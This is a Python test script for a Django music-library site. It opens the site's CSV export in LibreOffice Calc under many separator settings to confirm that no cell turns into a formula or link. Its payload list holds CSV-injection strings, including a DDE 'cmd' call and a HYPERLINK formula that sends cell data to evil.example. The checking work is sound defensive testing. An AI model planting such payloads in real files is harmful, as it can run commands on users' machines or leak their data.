#!/usr/bin/env python
"""Open the app's CSV export in LibreOffice Calc and show that no cell became a formula.

    .venv/bin/python scripts/csv_check.py

Writes an export (library.export.csv_lines, the code the site streams) of songs whose
titles, artists and albums are the CSV-injection payloads an outside review used, converts it
headless with `soffice --convert-to fods` (LibreOffice's flat XML spreadsheet), read with
each separator someone could have ticked in the import dialog (LibreOffice remembers the
last choice): comma, semicolon, pipe, tab, space, colon, all of them at once, every ASCII
punctuation character, with "'" as the text delimiter and with "Trim spaces" on. For
each it counts the cells that hold a formula (`table:formula`) and those that hold a
hyperlink (a link in the cell or a HYPERLINK formula). Needs LibreOffice Calc: Debian's
libreoffice-calc-nogui. Prints a table; exits 1 if any cell is a formula or a link.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

# CSV-injection payloads: the ones the first fix was tested with, then the outside
# review's for separators other than "," and ";". tests/library/test_csv_injection.py
# splits the same ones the way each separator would.
HOSTILE = [
    '\x00=HYPERLINK("https://evil.example/?"&C2,"click me")',
    "\x00=1+1",
    ";=3+3;",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=4+4",
    "\r=5+5",
    "  =6+6",
    '"=7+7"',
    ' =HYPERLINK("http://evil","x")',
    '" =HYPERLINK("http://evil","x")',
    'x =HYPERLINK("http://evil","x")',
    'x:=HYPERLINK("http://evil","x")',
    ":=1+1",
    "a =1+1",
    "x\t=1+1",
    "x;=1+1",
    "x|=1+1",
    "'=1+1",
    "x '=1+1' y",
    '"=1+1',
    "(=1+1)",
    "x,@SUM(1)",
    "x: = 1+1",
    "x/-2+3",
    "x\u00a0=1+1",  # a no-break space before it
]
# Ordinary titles, which must stay readable; the fullwidth "=" is text to LibreOffice.
PLAIN = ["Song - 2011 Remaster", "A = B", "C++", "Hello --World", "\uff1d1+1"]
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
_PUNCTUATION = "!\"#$%&'()*,./:;<>?[\\]^_`{|}~"  # ASCII punctuation but the formula starts
_ALL_USUAL = ",;:| \t"


class Reading(NamedTuple):
    """One way to read the file in LibreOffice's Text Import dialog."""

    separators: str
    delimiter: str = '"'
    merge: bool = False  # "Merge delimiters"
    trim: bool = False  # "Trim spaces"

    def options(self) -> str:
        """The --infilter options: separators (character codes joined by "/", "MRG" to
        merge runs of them), text delimiter, UTF-8 (76), first line, column formats,
        language, quoted field as text, detect special numbers, two export-only flags,
        trim spaces."""
        codes = [str(ord(char)) for char in self.separators] + (["MRG"] if self.merge else [])
        trim = "true" if self.trim else "false"
        return f"{'/'.join(codes)},{ord(self.delimiter)},76,1,,0,false,false,false,false,{trim}"


READINGS = {
    "comma": Reading(","),
    "semicolon": Reading(";"),
    "pipe": Reading("|"),
    "tab": Reading("\t"),
    "space": Reading(" "),
    "colon": Reading(":"),
    ", ; : | tab space": Reading(_ALL_USUAL),
    ", ; : | tab space, merged, trimmed": Reading(_ALL_USUAL, merge=True, trim=True),
    ", ; : | tab space, ' delimiter, trimmed": Reading(_ALL_USUAL, delimiter="'", trim=True),
    "space, ' delimiter": Reading(" ", delimiter="'"),
    "punctuation + blanks, trimmed": Reading(_PUNCTUATION + " \t", trim=True),
    "punctuation + blanks, ' delimiter, merged": Reading(
        _PUNCTUATION + " \t", delimiter="'", merge=True, trim=True
    ),
}


def _export(path: Path) -> None:
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "spotifysite.settings")
    os.environ.setdefault("DEBUG", "true")
    os.environ.setdefault("SECRET_KEY", "csv-check-only")
    import django

    django.setup()
    from library.export import csv_lines
    from library.tracks import Track

    tracks = [
        Track(
            id=f"id{number}",
            name=payload,
            artists=(payload, "Plain Artist"),
            album=payload,
            release_date="2020",
            image_url=None,
            duration_ms=180_000,
            explicit=False,
            playable=True,
            added_at=datetime(2026, 1, 1, tzinfo=UTC),
            uri=f"spotify:track:id{number}",
            spotify_url=None,
            isrc=None,
        )
        for number, payload in enumerate(HOSTILE + PLAIN)
    ]
    path.write_text("".join(csv_lines(tracks)), encoding="utf-8")


def _cells(fods: Path) -> tuple[int, list[str], list[str]]:
    """(cells with text, formulas, hyperlinks) in the converted sheet. A HYPERLINK formula
    counts as a link: the flat file keeps the formula, not a text:a element, for it."""
    tree = ET.parse(fods)  # noqa: S314
    cells = list(tree.iter(f"{{{TABLE}}}table-cell"))
    formulas = [cell.get(f"{{{TABLE}}}formula", "") for cell in cells]
    links = [formula for formula in formulas if "HYPERLINK" in formula.upper()]
    links += ["".join(link.itertext()) for link in tree.iter(f"{{{TEXT}}}a")]
    with_text = sum(1 for cell in cells if "".join(cell.itertext()).strip())
    return with_text, [formula for formula in formulas if formula], links


def main() -> int:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        print("LibreOffice is not installed: apt-get install libreoffice-calc-nogui")
        return 2
    workdir = Path(tempfile.mkdtemp(prefix="spotifysite-csv-"))
    export = workdir / "liked-songs.csv"
    _export(export)
    rows = []
    for number, (name, reading) in enumerate(READINGS.items()):
        out = workdir / f"reading{number}"
        subprocess.run(  # noqa: S603 (LibreOffice, on our own file)
            [
                soffice,
                "--headless",
                f"-env:UserInstallation=file://{workdir / 'profile'}",
                f"--infilter=CSV:{reading.options()}",
                "--convert-to",
                "fods",
                "--outdir",
                str(out),
                str(export),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        rows.append((name, *_cells(out / "liked-songs.fods")))
    songs = f"{len(HOSTILE)} hostile songs, {len(PLAIN)} plain"
    print(f"\nspotifysite CSV export opened in LibreOffice Calc ({songs})\n")
    width = max(len(name) for name in READINGS)
    print(f"{'read with':<{width}} | cells with text | formula cells | hyperlinks")
    print(f"{'-' * width} | --------------- | ------------- | ----------")
    for name, with_text, formulas, links in rows:
        print(f"{name:<{width}} | {with_text:<15} | {len(formulas):<13} | {len(links)}")
    for name, _, formulas, links in rows:
        for cell in dict.fromkeys(formulas + links):
            print(f"  {name}: {cell}")
    bad = sum(len(formulas) + len(links) for _, _, formulas, links in rows)
    print(f"\ncsv check: {'no cell is a formula or a link' if bad == 0 else f'{bad} formula or link cells'}")
    return 0 if bad == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
